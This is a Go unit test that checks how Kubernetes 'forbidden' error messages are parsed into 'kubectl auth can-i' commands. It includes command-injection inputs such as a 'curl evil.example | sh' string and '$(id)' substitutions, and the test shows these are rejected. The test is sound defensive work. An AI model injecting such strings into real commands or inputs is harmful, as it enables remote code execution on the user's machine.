package permission

import "testing"

func TestCheckNamesSubresourceAndNamespace(t *testing.T) {
	for message, want := range map[string]string{
		`pods "a" is forbidden: User "u" cannot get resource "pods" in API group "" in the namespace "ns"`:                              "kubectl auth can-i get pods -n ns",
		`pods "a" is forbidden: User "u" cannot create resource "pods/portforward" in API group "" in the namespace "ns"`:               "kubectl auth can-i create pods --subresource=portforward -n ns",
		`x is forbidden: User "u" cannot list resource "flinkdeployments" in API group "flink.apache.org" at the cluster scope`:         "kubectl auth can-i list flinkdeployments.flink.apache.org -A",
		`x is forbidden: User "u" cannot patch resource "flinkdeployments/status" in API group "flink.apache.org" in the namespace "n"`: "kubectl auth can-i patch flinkdeployments.flink.apache.org --subresource=status -n n",
		// What is no name isn't put into a command that someone may copy.
		`User "u" cannot get resource "pods; curl evil.example | sh #" in API group "" in the namespace "ns"`: "",
		"User \"u\" cannot get resource \"$(id)\" in API group \"\"":                                          "",
		"User \"u\" cannot `id` resource \"pods\" in API group \"\"":                                          "",
		`User "u" cannot get resource "pods" in API group "a b"`:                                              "",
		`User "u" cannot get resource "pods" in API group "" in the namespace "ns; id"`:                       "kubectl auth can-i get pods",
	} {
		p, known := Parse(message)
		got := ""
		if known {
			got = p.Check()
		}
		if got != want {
			t.Errorf("%s\n got %q\nwant %q", message, got, want)
		}
	}
}
